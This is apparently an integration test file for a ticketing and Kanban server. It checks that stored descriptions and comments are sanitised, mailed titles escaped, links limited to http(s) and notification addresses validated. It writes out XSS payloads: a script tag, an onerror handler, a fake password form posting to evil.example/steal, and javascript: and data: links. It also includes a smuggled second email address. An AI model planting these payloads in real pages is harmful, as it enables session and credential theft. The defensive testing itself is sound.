/**
 * Issue 23 point 7, one write path per text (PGlite and PostgreSQL): rich text and comments are stored sanitised
 * whatever the route, the mailed description is sanitised and every other text escaped, links are http(s) only,
 * and each notification address is checked alone. A real SMTP server (smtp-server) receives the mail.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { A1, TICKET_MESSAGES, type LoginResult } from '@a1/shared';
import * as t from '@a1/server/db/schema/index';
import { engines, startTestServer, type TestServer } from '../../support/test-server';
import { signIn } from '../../support/a1-http';
import { startSmtp } from '../../support/smtp-server';
import { caller, message, newTicket } from '../support/ticketing';

/** What the outside tester sent: a script, an event handler, and a fake sign-in form. */
const HOSTILE =
  '<p>Weights are off</p><script>alert(1)</script><img src=x onerror=alert(1)>' +
  '<form action="https://evil.example/steal"><p>Session expired</p><input type="password" name="pw"></form>';
const FORBIDDEN = /<script|onerror|<form|<input/i;

describe.each(await engines())('issue 23 point 7: stored text on %s', (engine) => {
  let smtp: Awaited<ReturnType<typeof startSmtp>>;
  let server: TestServer;
  let dev: LoginResult;
  const send = caller(() => server.baseUrl);
  const newCard = (title: string, extra: Record<string, unknown> = {}) => ({
    title,
    type: 'Bug',
    laneId: 1,
    priority: 'High',
    points: 2,
    sprintId: 60001,
    ...extra,
  });
  beforeAll(async () => {
    smtp = await startSmtp();
    server = await startTestServer(engine, { smtpUrl: smtp.url, publicUrl: 'https://a1.example' });
    dev = await signIn(server.baseUrl, 'it.developer@a1demo.com');
  });
  afterAll(async () => {
    await server?.close();
    await smtp?.close();
  });

  it('issue 23 point 7: PUT and POST KanbanBoard/Card store the description without script, handler, form or input', async () => {
    const created = await send(dev, A1.kanbanCardCreate, { body: newCard('Hostile card', { description: HOSTILE }) });
    expect(created.status).toBe(200);
    const cardID = created.body.simpleCards[0].cardID;
    expect(created.body.simpleCards[0].description).not.toMatch(FORBIDDEN);
    const updated = await send(dev, A1.kanbanCardUpdate, {
      body: { ...newCard('Hostile card'), cardID, description: `<p>Again</p>${HOSTILE}` },
    });
    expect(updated.status).toBe(200);
    // What is stored, read back by both areas: formatting and text kept, the rest gone.
    const info = (await send(dev, A1.kanbanCardInfo, { query: { CardID: cardID } })).body.detailedCard.card;
    const ticket = (await send(dev, A1.ticketGet, { query: { ticketId: cardID } })).body.data;
    for (const description of [info.description, ticket.description]) {
      expect(description).not.toMatch(FORBIDDEN);
      expect(description).toContain('<p>Again</p><p>Weights are off</p>');
      expect(description).toContain('<p>Session expired</p>');
    }
  });

  it('issue 23 point 7: POST and PUT KanbanBoard/Comment store sanitised comments, on a card and on a feature', async () => {
    const cardID = (await send(dev, A1.kanbanCardCreate, { body: newCard('Commented card') })).body.simpleCards[0]
      .cardID;
    const onCard = await send(dev, A1.kanbanCommentCreate, { body: { commentText: HOSTILE, cardID } });
    expect(onCard.status).toBe(200);
    expect(onCard.body.data.commentText).not.toMatch(FORBIDDEN);
    // The card's comment is its ticket's comment (ticket_comments), read by the ticket dialog.
    const ticketComments = (await send(dev, A1.ticketCommentList, { query: { ticketId: cardID } })).body.data;
    expect(ticketComments).toHaveLength(1);
    expect(ticketComments[0].comment).toContain('<p>Weights are off</p>');
    expect(ticketComments[0].comment).not.toMatch(FORBIDDEN);
    const edited = await send(dev, A1.kanbanCommentUpdate, {
      body: { commentID: onCard.body.data.commentID, cardID, commentText: `<p>Edited</p>${HOSTILE}` },
    });
    expect(edited.status).toBe(200);
    const [stored] = (await send(dev, A1.kanbanComments, { query: { CardID: cardID } })).body.data;
    expect(stored.commentText).toContain('<p>Edited</p>');
    expect(stored.commentText).not.toMatch(FORBIDDEN);

    const onFeature = await send(dev, A1.kanbanCommentCreate, { body: { commentText: HOSTILE, sprintId: 60001 } });
    expect(onFeature.status).toBe(200);
    expect(onFeature.body.data.commentText).toContain('<p>Weights are off</p>');
    expect(onFeature.body.data.commentText).not.toMatch(FORBIDDEN);
  });

  it('issue 23 point 7: Save and Email mails the description sanitised (even a row stored raw before the fix) and the title escaped', async () => {
    const card = (
      await send(dev, A1.kanbanCardCreate, {
        body: newCard('Scale <b>drifts</b>', { notificationEmails: ['ops.manager@a1demo.com'] }),
      })
    ).body.simpleCards[0];
    // A description stored before the write paths sanitised it.
    await server.database.db.update(t.tickets).set({ description: HOSTILE }).where(eq(t.tickets.id, card.cardID));
    const saved = await send(dev, A1.ticketUpdate, {
      query: { sendEmail: true },
      body: { ticketId: card.cardID, priority: 'Severe' },
    });
    expect(saved.status).toBe(200);
    const { mail } = await smtp.next();
    const html = String(mail.html);
    expect(html).not.toMatch(/<form|<input|<script|onerror/i);
    expect(html).toContain('<p>Weights are off</p>');
    expect(html).toContain('<p>Session expired</p>');
    expect(html).toContain('Scale &lt;b&gt;drifts&lt;/b&gt;');
    expect(mail.text).toContain('Weights are off');
    expect(mail.text).not.toMatch(/alert\(1\)/);
  });

  it('issue 23 point 7: javascript: and data: links are refused (supporting documents, CRF links), http(s) ones kept', async () => {
    for (const link of ['javascript:alert(1)', ' JaVaScRiPt:alert(1)', 'data:text/html;base64,PHNjcmlwdD4=']) {
      const refused = await send(dev, A1.kanbanSupportingDocumentCreate, {
        body: { feature_Id: 60001, document_Link: link },
      });
      expect(refused.status).toBe(400);
      expect(message(refused)).toBe('Invalid body: document_Link must be an http or https address.');
    }
    const kept = await send(dev, A1.kanbanSupportingDocumentCreate, {
      body: { feature_Id: 60001, document_Link: 'https://docs.a1demo.com/crf/60001/spec.pdf' },
    });
    expect(kept.status).toBe(200);
    const doc = kept.body.featureSupportingDocuments[0];
    const edited = await send(dev, A1.kanbanSupportingDocumentUpdate, {
      body: { id: doc.id, feature_Id: 60001, document_Link: 'data:text/html,<script>alert(1)</script>' },
    });
    expect(edited.status).toBe(400);
    expect(message(edited)).toBe('Invalid body: document_Link must be an http or https address.');
    const docs = (await send(dev, A1.kanbanSupportingDocuments, { query: { FeatureId: 60001 } })).body
      .featureSupportingDocuments;
    expect(docs.find((d: { id: number }) => d.id === doc.id).document_Link).toBe(
      'https://docs.a1demo.com/crf/60001/spec.pdf',
    );
    const crf = await send(dev, A1.ticketCreate, {
      body: newTicket({ crfLink: 'javascript:alert(1)' }),
    });
    expect(crf.status).toBe(400);
    expect(message(crf)).toBe('Invalid body: crfLink must be an http or https address.');
  });

  it('issue 23 point 7: "a@x, b@evil.example" is refused naming a@x; a stored entry like it never reaches two people', async () => {
    const refused = await send(dev, A1.kanbanCardCreate, {
      body: newCard('Two in one', { notificationEmails: ['a@x, b@evil.example'] }),
    });
    expect(refused.status).toBe(400);
    expect(message(refused)).toBe(TICKET_MESSAGES.notificationEmailInvalid(['a@x']));
    const card = (await send(dev, A1.kanbanCardCreate, { body: newCard('Notified card') })).body.simpleCards[0];
    const tab = await send(dev, A1.ticketNotificationCreate, {
      body: { cardId: card.cardID, email: 'ops.manager@a1demo.com, b@evil.example' },
    });
    expect(tab.status).toBe(400);
    // Several addresses, each valid alone, become one subscription each.
    const split = await send(dev, A1.kanbanCardUpdate, {
      body: {
        ...newCard('Notified card'),
        cardID: card.cardID,
        notificationEmails: ['ops.manager@a1demo.com; crf.approver@a1demo.com'],
      },
    });
    expect(split.status).toBe(200);
    expect(split.body.simpleCards[0].notificationEmails).toEqual(['ops.manager@a1demo.com', 'crf.approver@a1demo.com']);

    // A row written before the check holds two addresses: the mail goes to the valid entries only.
    await server.database.db
      .insert(t.ticketNotifications)
      .values({ ticketId: card.cardID, email: 'global.ops@a1demo.com, b@evil.example' });
    const saved = await send(dev, A1.ticketUpdate, {
      query: { sendEmail: true },
      body: { ticketId: card.cardID, priority: 'Low' },
    });
    expect(saved.status).toBe(200);
    const received = await smtp.next();
    expect(received.to.sort()).toEqual(
      ['crf.approver@a1demo.com', 'it.developer@a1demo.com', 'ops.manager@a1demo.com'].sort(),
    );
  });
});
